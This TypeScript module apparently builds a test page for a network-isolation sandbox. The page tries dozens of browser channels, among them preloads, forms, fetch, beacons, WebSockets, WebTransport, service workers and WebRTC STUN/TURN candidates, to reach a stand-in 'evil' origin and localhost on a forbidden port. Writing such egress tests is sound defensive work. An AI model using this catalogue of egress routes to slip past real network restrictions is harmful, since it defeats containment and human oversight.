/** All ways by which a page's content asks something of another host, each tried with the forbidden machine. */
import type { PagePlaces } from "./pages.ts";

/** HTML of them. When the last has been tried, the good site is asked for `/all-tried`. */
export const ATTEMPTS = (places: PagePlaces): string =>
  [places.evil, places.local].map(elements).join("\n") + `<script type="module">${scripts(places)}</script>`;

const elements = (origin: string): string => `
  <link rel="dns-prefetch" href="${origin}"><link rel="preconnect" href="${origin}">
  <link rel="prefetch" href="${origin}/prefetch"><link rel="preload" as="image" href="${origin}/preload">
  <link rel="modulepreload" href="${origin}/modulepreload"><link rel="stylesheet" href="${origin}/style">
  <link rel="icon" href="${origin}/icon"><link rel="manifest" href="${origin}/manifest">
  <script type="speculationrules">{"prerender":[{"source":"list","urls":["${origin}/prerender"]}]}</script>
  <style>@import url("${origin}/import"); @font-face { font-family: F; src: url("${origin}/font") }
    .b { background: url("${origin}/background"); font-family: F }</style>
  <img src="${origin}/img"><img srcset="${origin}/srcset 2x"><picture><source srcset="${origin}/picture"><img></picture>
  <iframe src="${origin}/iframe"></iframe><iframe srcdoc="<img src='${origin}/srcdoc'>"></iframe>
  <iframe name="f-${origin}"></iframe><iframe src="/redirect"></iframe>
  <form method="post" action="${origin}/form" target="f-${origin}"><input name="a" value="b"></form>
  <object data="${origin}/object"></object><embed src="${origin}/embed"><video src="${origin}/video" autoplay></video>
  <audio src="${origin}/audio" preload="auto"></audio><svg><image href="${origin}/svg"/></svg><p class="b">text</p>
  <script src="${origin}/script"></script>`;

const scripts = ({ evil, local, forbiddenPort }: PagePlaces): string => `
  const pause = (ms) => new Promise((done) => setTimeout(done, ms));
  const quietly = async (attempt) => { try { await Promise.race([attempt(), pause(1500)]); } catch {} };
  for (const origin of ["${evil}", "${local}"]) {
    const socket = origin.replace("http", "ws");
    document.forms.length && [...document.forms].forEach((form) => form.submit());
    await quietly(() => fetch(origin + "/fetch", { mode: "no-cors" }));
    await quietly(() => fetch(origin + "/cors", { method: "PUT", headers: { "x-a": "b" } }));
    await quietly(() => fetch(origin + "/keepalive", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }));
    await quietly(() => fetch("/redirect", { mode: "no-cors" }));
    await quietly(() => new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open("GET", origin + "/xhr"); x.send(); }));
    await quietly(() => navigator.sendBeacon(origin + "/beacon", "x"));
    await quietly(() => new Promise((done) => { new WebSocket(socket + "/socket").onerror = done; }));
    await quietly(() => new Promise((done) => { new WebSocket(socket.replace("ws:", "wss:") + "/socket").onerror = done; }));
    await quietly(() => new Promise((done) => { new EventSource(origin + "/events").onerror = done; }));
    await quietly(() => import(origin + "/module"));
    await quietly(() => new Promise((done) => { const i = new Image(); i.onerror = done; i.src = origin + "/image"; }));
    await quietly(() => new WebTransport(origin.replace("http:", "https:") + "/transport").ready);
  }
  await quietly(() => new Promise((done) => { new Worker("/attempt-worker.js").onmessage = done; }));
  await quietly(async () => {
    await navigator.serviceWorker.register("/attempt-service.js");
    await navigator.serviceWorker.ready;
    await fetch("/through-service");
  });
  for (const host of ["127.0.0.1", "evil.test"]) {
    for (const server of ["stun:" + host + ":${forbiddenPort}", "turn:" + host + ":${forbiddenPort}?transport=udp", "turn:" + host + ":${forbiddenPort}?transport=tcp"]) {
      await quietly(async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: server, username: "u", credential: "c" }] });
        peer.createDataChannel("x");
        await peer.setLocalDescription(await peer.createOffer());
        // Candidates are sought for as long as a page waits.
        await new Promise((done) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && done(); });
        peer.close();
      });
    }
  }
  await quietly(async () => {
    const peer = new RTCPeerConnection();
    const other = new RTCPeerConnection();
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    await other.setRemoteDescription(peer.localDescription);
    await other.setLocalDescription(await other.createAnswer());
    await peer.setRemoteDescription(other.localDescription);
    await peer.addIceCandidate({ candidate: "candidate:1 1 udp 2113937151 127.0.0.1 ${forbiddenPort} typ host", sdpMid: "0" });
    await pause(1000);
  });
  document.querySelector("#state").textContent = "all tried";
  await fetch("/all-tried");`;
